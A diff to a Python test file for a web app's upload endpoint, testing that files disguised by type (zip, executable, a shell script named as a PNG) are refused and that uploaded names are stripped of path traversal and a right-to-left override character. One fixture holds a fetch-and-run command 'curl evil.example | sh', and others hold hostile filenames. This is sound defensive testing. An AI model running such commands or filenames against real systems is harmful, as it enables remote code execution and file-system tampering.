@@ -54,7 +54,7 @@ async def upload(app: App, data: bytes, *, token: str | None = WEB_TOKEN,
         headers["Origin"] = origin
     body: Any = data
     if not raw:
-        body = aiohttp.FormData()
+        body = aiohttp.FormData(quote_fields=False)  # the name as a browser sends it
         body.add_field("file", data, filename=name, content_type="image/png")
     async with aiohttp.ClientSession() as session, session.post(
             f"{app.web.url}/upload", data=body, headers=headers) as resp:
@@ -165,11 +165,35 @@ async def test_a_file_that_lies_about_its_type_is_refused(app_factory: AppFactor
     app = await app_factory()
     script = b"#!/bin/sh\ncurl evil.example | sh\n" * 10
     status, answer = await upload(app, script, name="cute-cat.png")  # says image/png too
-    assert status == 415 and "not an image" in answer["error"]
+    assert status == 415 and "lies about its type" in answer["error"]
+    zipped = b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + os.urandom(200)  # a zip or an .exe
+    for data, name in ((zipped, "cat.png"), (b"MZ\x90\x00\x03" + bytes(100), "cat.png"),
+                       (zipped, "notes.txt"), (photo(8, 8), "report.pdf")):
+        status, answer = await upload(app, data, name=name)
+        assert status == 415, (name, answer)
     truncated = photo(50, 50)[:200]  # a real PNG header, the rest missing
     status, answer = await upload(app, truncated)
     assert status == 415
     assert media_files(app) == [] and await media_rows(app) == 0
+
+
+async def test_an_upload_keeps_its_name_cleaned_from_the_form_the_query_or_a_header(
+    app_factory: AppFactory
+) -> None:
+    app = await app_factory()
+    status, info = await upload(app, b"a,b\n1,2\n", name="../../tmp/My\u202eTable.csv")
+    assert status == 200 and (info["type"], info["name"]) == ("text/csv", "MyTable.csv")
+    assert app.web is not None
+    auth = {"Authorization": f"Bearer {WEB_TOKEN}"}
+    async with aiohttp.ClientSession() as session:
+        async with session.post(f"{app.web.url}/upload", params={"name": "notes.md"},
+                                data=b"# hi\n", headers=auth) as resp:
+            assert (await resp.json())["name"] == "notes.md"
+        async with session.post(f"{app.web.url}/upload", data=b"plain\n",
+                                headers={**auth, "X-File-Name": "a/b.txt"}) as resp:
+            assert (await resp.json())["name"] == "b.txt"
+    row = await app.db.fetchone("SELECT name FROM media WHERE id = ?", (info["id"],))
+    assert row is not None and row["name"] == "MyTable.csv"
 
 
 async def test_upload_needs_the_token_and_the_pages_origin(app_factory: AppFactory) -> None:
